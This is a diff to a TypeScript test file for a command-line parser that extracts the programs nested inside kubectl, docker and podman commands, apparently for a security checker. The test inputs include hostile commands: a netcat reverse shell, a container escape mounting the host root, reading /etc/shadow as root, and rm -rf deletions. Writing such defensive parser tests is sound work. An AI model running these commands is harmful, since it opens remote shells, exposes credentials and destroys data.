@@ -138,6 +138,30 @@ describe('parseCommandLine: sub-commands', () => {
     expect(programs(`find / -name x -exec rm -rf {} \\;`)).toEqual(['find', 'rm']);
   });
 
+  it('parses the command a container client runs in a container', () => {
+    expect(
+      programs(`kubectl run x --image=alpine --restart=Never -- sh -c 'nc h 1 -e sh'`),
+    ).toEqual(['kubectl', 'sh', 'nc']);
+    expect(programs(`kubectl exec -it web -- /bin/bash`)).toEqual(['kubectl', 'bash']);
+    expect(programs(`docker run --rm -v /:/h alpine sh -c 'chroot /h id'`)).toEqual([
+      'docker',
+      'sh',
+      'chroot',
+    ]);
+    expect(programs(`sudo podman exec -u 0 db bash -lc "cat /etc/shadow"`)).toEqual([
+      'podman',
+      'bash',
+      'cat',
+    ]);
+    const nested = parseCommandLine(`docker exec web sh -c 'rm -rf /data'`).find(
+      (c) => c.program === 'rm',
+    );
+    expect(nested?.depth).toBe(2);
+    // No run/exec verb, or no shell given -c: the arguments are the client's own.
+    expect(programs(`docker build -t app . --build-arg sh -c`)).toEqual(['docker']);
+    expect(programs(`docker ps -q`)).toEqual(['docker']);
+  });
+
   it('carries sudo elevation into the script it runs', () => {
     const rm = parseCommandLine(`sudo bash -c 'rm -rf /'`).find((c) => c.program === 'rm');
     expect(rm?.elevated).toBe(true);
